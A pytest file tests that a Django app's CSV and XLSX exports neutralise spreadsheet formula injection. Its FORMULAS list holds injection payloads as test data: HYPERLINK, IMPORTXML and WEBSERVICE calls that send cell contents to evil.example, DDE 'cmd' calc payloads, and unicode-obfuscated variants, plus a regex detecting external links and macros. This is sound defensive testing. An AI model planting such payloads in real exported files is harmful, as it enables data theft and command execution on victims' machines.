"""What a person typed is text in every spreadsheet: never a formula, never rewritten."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from django.http import Http404
from hypothesis import given
from hypothesis import strategies as st

from foundation.ui.sheets import GUARD, LONGEST, Sheet, as_csv, as_xlsx, sheet_response
from tests.sheets import in_csv, in_xlsx, read_back

# Everything a program of the field runs, or has run once.
FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    "\u22121+1",
    "'=1+1",
    "\"=1+1",
    "\"\"=1+1",
    "\u2019=1+1",
    "\"\t =1+1",
    "Asha;=1+1",
    "Asha;\"=1+1",
    "Asha\n=1+1",
    "Asha\t@SUM(1)",
    "Asha;;+1",
    "{=1+1}",
    "|=1+1",
    "%0A=1+1",
    "\"; =1+1; \"",
]  # fmt: skip
# What is no formula, and must be read afterwards as it was typed.
REWRITTEN = [
    "+91 98200 11223", "+919820011223", "007", "00123456789012345678", "1:160", "1/2",
    "3-4", "12 Mar 2024", "Mar 2024", "MARCH1", "Sept 2", "1E5", "2018", "TRUE", "false",
    "(5)", "5 %", "₹500", "#N/A", ".5", "10:30", "4,5",
]  # fmt: skip
PLAIN = ["Asha Sample", "आशा नमूना", "Ґанна Їжак", "<0.5", ">=1:40", "≥38", "C1001F", "May"]


def sheet(*texts):
    return Sheet("Texts", ["Text"], [[text] for text in texts])


def cells_of_every_program(content):
    """Each cell any program could see: with other separators, with quotes not honoured."""
    whole = content.decode("utf-8-sig")
    for separator in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(whole, newline="")
            reader = csv.reader(lines, delimiter=separator, quoting=quoting)
            yield from (cell for row in reader for cell in row)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_in_a_csv_file_whatever_separates_its_cells(text):
    content = as_csv(sheet("First", text, "Last"))
    begin = [cell.lstrip(" \t\"\u00a0\u3000\ufeff\u200b\u202e\x0b") for cell in
             cells_of_every_program(content)]  # fmt: skip
    assert [cell for cell in begin if cell.startswith(tuple("=+-@＝＋－＠﹦\u2212"))] == []


@pytest.mark.parametrize("text", FORMULAS + REWRITTEN + PLAIN)
def test_a_csv_file_gives_back_what_was_typed(text):
    assert [read_back(cell) for [cell] in in_csv(as_csv(sheet(text)))] == [text]


@pytest.mark.parametrize("text", REWRITTEN)
def test_what_a_program_would_rewrite_is_marked_as_text(text):
    assert in_csv(as_csv(sheet(text))) == [[GUARD + text]]


@pytest.mark.parametrize("text", PLAIN)
def test_a_plain_text_stands_in_a_csv_file_as_it_is(text):
    assert in_csv(as_csv(sheet(text))) == [[text]]


def test_an_adversarial_workbook_has_no_formula_no_link_and_only_texts():
    texts = FORMULAS + REWRITTEN + PLAIN + ["http://evil.example/", "mailto:a@b.example"]
    content = as_xlsx(sheet(*texts))
    cells = in_xlsx(content)
    assert [cells[f"A{place}"] for place in range(2, len(texts) + 2)] == [
        ("s", text, []) for text in texts
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        everything = {name: book.read(name) for name in book.namelist()}
    formulas = re.findall(rb"<f[ >]", everything["xl/worksheets/sheet1.xml"])
    assert formulas == []
    outside = re.compile(rb"<hyperlink |TargetMode|externalLink|vbaProject|ddeLink")
    assert [name for name, part in everything.items() if outside.search(part)] == []


def test_text_in_a_workbook_stays_text_when_somebody_edits_the_cell():
    """The format of the cell is "text", and it carries the mark that says so."""
    with zipfile.ZipFile(io.BytesIO(as_xlsx(sheet("=1+1")))) as book:
        styles = book.read("xl/styles.xml").decode()
        page = book.read("xl/worksheets/sheet1.xml").decode()
    used = int(re.search(r'r="A2" s="(\d+)"', page)[1])
    style = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])[used]
    assert 'numFmtId="49"' in style
    assert 'quotePrefix="1"' in style


TEXTS = st.text(
    st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=40
) | st.lists(
    st.sampled_from([*"=+-@'\"; \t\r\n,＝0a", "\r\n", "_x0041_", "Mar", "\ufffe"]),
    max_size=9,
).map("".join)


@given(TEXTS)
def test_any_text_is_read_back_from_both_kinds(text):
    assert [read_back(cell) for [cell] in in_csv(as_csv(sheet(text, "x")))] == [text, "x"]
    cells = in_xlsx(as_xlsx(sheet(text, "x")))
    assert (cells.get("A2", ("s", "", []))[1], cells["A3"][1]) == (text, "x")


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_no_text_makes_a_formula_in_any_program(texts):
    for cell in cells_of_every_program(as_csv(sheet(*texts))):
        assert not cell.strip(' \t\r\n"').startswith(tuple("=+-@＝＋－＠"))


def test_numbers_days_and_hours_are_given_as_such():
    row = [7, Decimal("-4.50"), date(2026, 3, 10), datetime(2026, 3, 10, 5, tzinfo=UTC),
           time(9, 5), None]  # fmt: skip
    whole = Sheet("Kinds", list("abcdef"), [row])
    assert in_csv(as_csv(whole)) == [
        ["7", "-4.50", "2026-03-10", "2026-03-10 10:30", "09:05", ""]
    ]
    cells = in_xlsx(as_xlsx(whole))
    assert {place: kind for place, (kind, *_) in cells.items() if place.endswith("2")} == {
        f"{column}2": "n" for column in "ABCDE"
    }
    assert (cells["A2"][1], cells["B2"][1]) == ("7", "-4.50")


def test_a_text_too_long_for_a_cell_is_cut_visibly():
    content = as_xlsx(sheet("x" * (LONGEST + 1)))
    text = in_xlsx(content)["A2"][1]
    assert len(text) == LONGEST
    assert text.endswith("x […]")


def test_the_head_of_a_workbook_stays_in_sight():
    with zipfile.ZipFile(io.BytesIO(as_xlsx(sheet("a")))) as book:
        page = book.read("xl/worksheets/sheet1.xml").decode()
    assert 'topLeftCell="A2"' in page
    assert 'state="frozen"' in page


def test_equal_rows_give_equal_bytes():
    assert as_xlsx(sheet("a", "b")) == as_xlsx(sheet("a", "b"))
    assert as_csv(sheet("a", "b")) == as_csv(sheet("a", "b"))


def test_a_csv_file_says_that_it_is_utf_8():
    assert as_csv(sheet("आशा")).startswith(b"\xef\xbb\xbf")


def test_a_file_is_handed_over_and_never_opened_as_a_page(rf):
    answer = sheet_response(rf.get("/?format=csv"), sheet("a"), name="visits-2026-03-10")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="visits-2026-03-10.csv"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert answer["Cache-Control"] == "no-store, private"


def test_without_a_word_about_the_kind_it_is_a_workbook(rf):
    answer = sheet_response(rf.get("/"), sheet("a"), name="visits")
    assert answer["Content-Type"].endswith("spreadsheetml.sheet")
    assert answer["Content-Disposition"] == 'attachment; filename="visits.xlsx"'


def test_another_kind_is_not_found(rf):
    with pytest.raises(Http404):
        sheet_response(rf.get("/?format=exe"), sheet("a"), name="visits")
